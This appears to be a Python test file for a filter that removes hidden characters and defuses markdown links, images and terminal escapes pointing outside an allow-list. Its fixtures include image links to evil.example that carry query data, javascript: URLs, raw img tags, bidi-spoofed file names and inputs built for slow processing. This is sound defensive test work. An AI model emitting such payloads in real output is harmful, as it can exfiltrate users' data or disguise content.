@@ -1,0 +1,89 @@
+"""Text for people: hidden characters are gone, links and images lead to allowed hosts only, however the text is cut."""
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from a2a_hub.text.display import DisplayFilter, displayed
+
+_HOSTS = ("docs.example.com", "*.example.org")
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("[here](https://evil.example/x?q=1)", "here (`https://evil.example/x?q=1`)"),
+        ("![pixel](https://evil.example/x?q=secret)", "pixel"),
+        ("![](https://evil.example/x)", ""),
+        ("[guide](https://docs.example.com/a) ![b](https://a.b.example.org/c)", None),
+        ("[guide](https://docs.example.com.evil.example/a)", "guide (`https://docs.example.com.evil.example/a`)"),
+        ("[guide](https://docs.example.com@evil.example/a)", "guide (`https://docs.example.com@evil.example/a`)"),
+        ("[![alt](https://evil.example/i)](https://evil.example/l)", "alt (`https://evil.example/l`)"),
+        ("[![![a](x)](x)](https://evil.example/l)", "a (`https://evil.example/l`)"),
+        ("[a]![](x)(https://evil.example)", "a (`https://evil.example`)"),
+        ("[a]\u200b(https://evil.example/`b)", "a (`https://evil.example/%60b`)"),
+        ("\\<img src=x>", "\\&lt;img src=x>"),
+        ('[a](https://evil.example/x "title")', "a (`https://evil.example/x`)"),
+        ("[wiki](<https://evil.example/A_(b)>)", "wiki (`https://evil.example/A_(b)`)"),
+        ("[x](javascript:alert(1))", "x"),
+        ("[x](data:text/html;base64,AAAA) [y](//evil.example) [z](#part)", "x y z"),
+        ("[a][1]\n\n[1]: https://evil.example/x\n", "[a][1]\n\n[1]: `https://evil.example/x`\n"),
+        ("[1]: https://docs.example.com/x", None),
+        (
+            "<img src=https://evil.example/x> <A HREF='x'>y</a>",
+            "&lt;img src=https://evil.example/x> &lt;A HREF='x'>y&lt;/a>",
+        ),
+        (
+            "a < b, <https://example.com>, x[1], f(x)[0](y) and [note]",
+            "a < b, <https://example.com>, x[1], f(x)0 and [note]",
+        ),
+        ("\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "red link"),
+        ("user\u202egnp.exe a\u200bb\ufeffc\u2066d\u2069 \U000e0041\U000e0042e", "usergnp.exe abcd e"),
+        ("👨\u200d👩\u200d👧 ❤️\u200d🔥 が゛ パ\u200dピ", "👨\u200d👩\u200d👧 ❤️\u200d🔥 が゛ パピ"),
+        ("a\tb\nc\x00\x07\x9b", "a\tb\nc"),
+        ("経費は[規程](https://docs.example.com/規程.pdf)の第3条 [1] にあります。", None),
+    ],
+)
+def test_a_person_sees_the_text_and_nothing_that_leads_elsewhere(text: str, shown: str | None) -> None:
+    assert displayed(text, _HOSTS) == (text if shown is None else shown)
+
+
+@given(st.text(alphabet="[]()!<>:`\n ahtps/.\x1b1;m\u200b", max_size=60), st.integers(1, 7))
+def test_how_a_text_is_cut_into_pieces_makes_no_difference(text: str, size: int) -> None:
+    pieces = DisplayFilter(_HOSTS)
+    cut = "".join(pieces.feed(text[at : at + size]) for at in range(0, len(text), size)) + pieces.finish()
+    for forbidden in ("](http", "\x1b", "\u200b"):
+        assert forbidden not in cut
+
+
+@pytest.mark.parametrize(
+    "text", ["[a](https://evil.example/x)", "![a](https://evil.example/x)", "[1]: https://e.example/x\n"]
+)
+def test_a_link_that_comes_in_pieces_is_no_link(text: str) -> None:
+    for size in range(1, len(text)):
+        pieces = DisplayFilter()
+        cut = "".join(pieces.feed(text[at : at + size]) for at in range(0, len(text), size)) + pieces.finish()
+        assert cut == displayed(text), size
+
+
+@pytest.mark.parametrize(
+    "hostile", ["[", "![", "](", "[a](", "[a](b", "\x1b[", "<", "[[a]", "[a]: ", "\u202e", "(" * 9 + "["]
+)
+def test_hostile_text_takes_time_in_proportion_to_its_length(hostile: str) -> None:
+    def processor_seconds(length: int) -> float:
+        text = hostile * (length // len(hostile))
+        best = 9.0
+        for _ in range(3):
+            started = time.process_time()
+            displayed(text)
+            best = min(best, time.process_time() - started)
+        return best
+
+    assert processor_seconds(80_000) <= 3 * processor_seconds(40_000) + 0.05
+
+
+def test_links_in_links_are_none_however_deep() -> None:
+    shown = displayed("[" * 9 + "a" + "](https://evil.example/)" * 9)
+    assert "](" not in shown
